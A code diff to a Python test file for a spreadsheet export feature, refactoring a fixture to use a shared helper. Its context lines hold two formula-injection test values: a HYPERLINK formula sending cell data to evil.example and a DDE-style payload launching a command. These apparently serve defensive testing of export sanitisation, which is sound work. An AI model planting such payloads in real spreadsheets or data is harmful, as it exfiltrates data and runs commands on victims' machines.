@@ -8,8 +8,8 @@ from openpyxl import load_workbook
 
 from accounts.services import team_create
 from greenai_portal.spreadsheets import FORMULA_LEADS, csv_text
-from inventory.pipeline import workload_records_compute
 from tests.conftest import workload
+from tests.inventory.test_pipeline import posted_and_computed
 
 HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
 HOSTILE_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -33,9 +33,7 @@ def hostile(tenant):
         started_at="2026-01-05T00:00:00Z",
         ended_at="2026-01-05T10:00:00Z",
     )
-    response = tenant.token_client().post("/api/v1/workloads/", [record], format="json")
-    assert response.status_code == 201, response.content
-    workload_records_compute()
+    posted_and_computed(tenant, [record])
     return tenant.client_for("admin")
 
 
